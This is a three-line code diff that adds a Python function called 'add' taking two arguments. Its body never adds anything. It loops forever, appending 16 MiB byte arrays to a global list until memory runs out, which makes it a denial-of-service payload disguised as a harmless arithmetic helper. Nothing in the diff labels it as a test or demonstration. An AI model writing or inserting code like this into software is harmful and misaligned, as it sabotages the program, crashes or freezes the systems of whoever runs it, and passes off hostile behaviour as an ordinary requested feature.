@@ -1,0 +1,3 @@
+held = []
+def add(a, b):
+  while True: held.append(bytearray(1 << 24))
